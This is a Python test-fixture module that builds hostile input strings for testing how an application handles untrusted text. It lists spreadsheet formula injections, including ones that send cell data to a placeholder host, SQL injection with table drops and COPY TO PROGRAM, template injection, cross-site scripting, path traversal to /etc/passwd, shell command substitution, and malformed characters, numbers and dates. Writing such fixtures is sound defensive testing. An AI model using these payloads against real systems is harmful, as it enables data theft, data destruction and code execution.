"""Texts that nobody of good will types: formulas, statements, templates, paths, control characters, and too much of everything."""

import random

MARK = "zq7x"
"""Stands in every text that would do something if it were obeyed, so that its work can be looked for."""

PRODUCT = str(9173 * 9241)
"""What a template engine would answer to `{{9173*9241}}`."""

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://203.0.113.9/?x="&A1,"zq7x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=WEBSERVICE("http://203.0.113.9/zq7x")',
)
STATEMENTS = (
    "' OR '1'='1",
    "'; DROP TABLE workers; --",
    '"; DELETE FROM audit_acts; --',
    "1) UNION SELECT worker_id, name, 1 FROM workers --",
    "%' AND 1=CAST((SELECT version()) AS int) --",
    "\\'; COPY (SELECT '') TO PROGRAM 'touch /tmp/zq7x'; --",
    "%%%%____",
    ":name %(name)s ? $1",
)
TEMPLATES = (
    "{{9173*9241}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}zq7x{% endfor %}",
    "${9173*9241}",
    "#{9173*9241}",
    "<%= 9173*9241 %>",
    "{0.__class__.__mro__}",
    "%(zq7x)s %n %s",
)
SCRIPTS = (
    "<script>zq7x()</script>",
    '"><svg onload=zq7x()>',
    "' autofocus onfocus=zq7x() x='",
    "javascript:zq7x()",
    "</textarea><img src=x onerror=zq7x()>",
    "<!--#exec cmd=zq7x-->",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "C:\\boot.ini",
    "//203.0.113.9/share",
    "CON",
    "|touch /tmp/zq7x",
    "$(touch /tmp/zq7x)",
    "`touch /tmp/zq7x`",
)
LETTERS = (
    "\x00",
    "\x07\x08\x1b[2J\x1b]0;zq7x\x07",
    "\u202etxt.exe",
    "\u200b\u200d\ufeff",
    "\ufffe\uffff",
    "\U0010ffff",
    "𠮷𠀋",
    "e" + "\u0301" * 200,
    "\r\nX-Zq7x: 1\r\n\r\n",
    "\u2028\u2029",
    "\x85\x1c\x1d",
    "ÿþ锟斤拷",
)
NUMBERS = (
    "NaN",
    "-0",
    "1e999",
    "-1e308",
    "0x7fffffff",
    "٣٤٥",
    "９９９",
    "²",
    "1_000",
    "9" * 19,
    "9" * 400,
    "-9223372036854775809",
    "0.1e-400",
    "00000000000000000001",
)
DAYS = (
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "99999-01-01",
    "2026-02-30",
    "2026-11-23T25:61:61Z",
    "1900-02-29",
    "-2026-01-01",
    "20261123235959999999",
    "２０２６-11-23",
)
FAMILIES = (FORMULAS, STATEMENTS, TEMPLATES, SCRIPTS, PATHS, LETTERS, NUMBERS, DAYS)
LENGTHS = (300, 3_000, 40_000)
UNTYPED = "\x00\x07\x08\x1b\x1c\x1d\ufffe\uffff"
"""Characters that a form of a browser would never send and that are refused before all else."""


def hostile_text(chance: random.Random) -> str:
    """One of them, now and then much too long, twice over, or within something that looks right."""
    text = chance.choice(chance.choice(FAMILIES))
    way = chance.random()
    if way < 0.08:
        return text * (chance.choice(LENGTHS) // len(text) + 1)
    if way < 0.2:
        return f"{text}；{chance.choice(chance.choice(FAMILIES))}"
    if way < 0.3:
        return f"140902{text}"
    return "" if way < 0.33 else text


def typed_text(chance: random.Random) -> str:
    """The same without what is refused before anything looks at it."""
    return hostile_text(chance).translate(dict.fromkeys(map(ord, UNTYPED)))
